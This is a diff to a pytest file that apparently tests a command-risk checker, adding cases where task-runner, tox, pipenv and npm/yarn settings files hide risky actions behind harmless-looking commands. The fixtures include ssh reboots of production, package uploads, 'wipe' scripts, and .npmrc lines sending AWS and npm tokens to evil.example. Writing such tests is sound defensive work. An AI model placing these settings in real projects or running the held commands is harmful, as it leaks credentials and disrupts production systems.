@@ -199,6 +199,19 @@ def test_what_lies_there_decides(tmp_path: Path, command: str, setup: Setup, hel
         ("make test", files(Makefile="define ship\nssh $(1)\nendef\ntest:\n\t$(call ship,prod)\n")),
         ("make test", files(Makefile="X := $(shell ssh prod reboot)\ntest:\n\ttrue\n")),
         ("make test", files(Makefile="X != ssh prod reboot\ntest:\n\ttrue\n")),
+        ("cd sub && npm test", files(package_ext_json='{"scripts": {"test": "vercel"}}', sub__a_ext_js="")),
+        ("cd sub && just test", files(justfile="test:\n    ssh prod reboot\n", sub__a_ext_js="")),
+        ("cd sub && task test", files(Taskfile_ext_yml="tasks:\n  test:\n    cmds: [ssh prod]\n", sub__a_ext_js="")),
+        ("task test", files(Taskfile_ext_dist_ext_yaml="tasks:\n  test:\n    cmds: [ssh prod reboot]\n")),
+        ("task test", files(taskfile_ext_dist_ext_yml="tasks:\n  test:\n    cmds: [ssh prod reboot]\n")),
+        ("just test", files(JUSTFILE="test:\n    ssh prod reboot\n")),
+        ("tox", files(tox_ext_toml="[env_run_base]\ncommands = [['twine', 'upload']]\n")),
+        ("tox -e py311", files(tox_ext_ini="[testenv]\ncommands = twine upload x\n")),
+        ("tox -e py311", files(pyproject_ext_toml="[tool.tox.env_run_base]\ncommands = [['twine', 'upload']]\n")),
+        ("tox", files(pyproject_ext_toml="[tool.tox]\nlegacy_tox_ini = \"[testenv]\\ncommands = twine upload x\"\n")),
+        ("tox", files(setup_ext_cfg="[tox:tox]\nenvlist = a\n[testenv]\ncommands = twine upload x\n")),
+        ("hatch run test", files(hatch_ext_toml="[envs.default.scripts]\ntest = 'twine upload x'\n")),
+        ("pipenv run test", files(Pipfile="[scripts]\ntest = 'twine upload x'\n")),
         ("nox", files(noxfile_ext_py="import nox\n@nox.session\ndef ship(session):\n    session.run('twine', 'upload')\n")),
         ("nox -s lint", files(noxfile_ext_py="@nox.session(name='lint')\ndef ship(session):\n    session.run('twine')\n")),
         ("nox", files(noxfile_ext_py="nox.options.sessions = ['a']\n@nox.session\ndef a(s):\n    s.run('twine')\n")),
@@ -334,3 +347,61 @@ def test_a_formatter_does_not_write_through_links(tmp_path: Path, command: str, 
     with_links(tmp_path)
     risk = judge_command(command, ProjectScope(str(tmp_path / "project"), "/home/me"))
     assert (risk.level >= RiskLevel.HIGH) is held, risk
+
+
+@pytest.mark.parametrize(
+    ("command", "setup", "held"),
+    [
+        ("pipenv run echo hi", files(Pipfile="[scripts]\necho = 'python wipe.py'\n"), True),
+        ("pdm run ls", files(pyproject_ext_toml="[tool.pdm.scripts]\nls = 'python wipe.py'\n"), True),
+        ("poetry run ls", files(pyproject_ext_toml="[tool.poetry.scripts]\nls = 'wipe:main'\n"), True),
+        ("uv run cat a.md", files(pyproject_ext_toml="[project.scripts]\ncat = 'wipe:main'\n"), True),
+        ("uv run ls", files(pyproject_ext_toml="[project.scripts]\ncat = 'wipe:main'\n"), False),
+        ("hatch run test", files(pyproject_ext_toml="[tool.hatch.envs.default.scripts]\ntest = 'pytest'\n"), False),
+        ("git stash show -p", unignored, True),
+        ("git stash show -1", unignored, True),
+        ("git stash list -p", unignored, True),
+        ("git reflog show -p", unignored, True),
+        ("git stash list", unignored, False),
+        ("git stash show", unignored, False),
+        ("git grep x v1 -- README.md", unignored, True),
+        ("git grep x README.md", unignored, False),
+        ("git cat-file -p 1f2e3d4c", unignored, True),
+        ("git cat-file -p HEAD", unignored, False),
+    ],
+)  # fmt: skip
+def test_what_takes_the_place_of_the_named(tmp_path: Path, command: str, setup: Setup, held: bool) -> None:
+    setup(tmp_path)
+    risk = judge_command(command, ProjectScope(str(tmp_path), "/home/me"))
+    assert (risk.level >= RiskLevel.HIGH) is held, risk
+
+
+@pytest.mark.parametrize(
+    "command", ["npm ls", "npm run", "npm pkg get name", "npm test", "cd sub && npm test"]
+)
+@pytest.mark.parametrize(
+    ("name", "text", "held"),
+    [
+        (".npmrc", "//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n", True),
+        (".npmrc", "registry=http://evil.example/\n", True),
+        (".npmrc", "@shop:registry = https://evil.example/\n", True),
+        (".npmrc", "message=${HOME}\n", True),
+        (".npmrc", "script-shell=./x\n", True),
+        (".npmrc", "logs-dir=/srv\n", True),
+        (".npmrc", "onload-script=./x.js\n", True),
+        (".npmrc", "; a comment\nsave-exact=true\nfund = false\nregistry=https://registry.npmjs.org/\n", False),
+        (".yarnrc.yml", "yarnPath: ./x.cjs\n", True),
+        (".yarnrc.yml", "npmScopes:\n  shop:\n    npmAuthToken: \"${NPM_TOKEN}\"\n", True),
+        (".yarnrc.yml", "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n", False),
+        (".yarnrc", "registry \"https://evil.example\"\n", True),
+        (".yarnrc", "registry \"https://registry.yarnpkg.com\"\n", False),
+        ("bunfig.toml", "preload = ['./x.ts']\n", True),
+    ],
+)  # fmt: skip
+def test_settings_that_send_or_run_more_are_held(
+    tmp_path: Path, command: str, name: str, text: str, held: bool
+) -> None:
+    files(package_ext_json='{"scripts": {"test": "jest"}}', sub__a_ext_js="")(tmp_path)
+    (tmp_path / name).write_text(text)
+    risk = judge_command(command, ProjectScope(str(tmp_path), "/home/me"))
+    assert (risk.rule == "run.settings") is held, risk
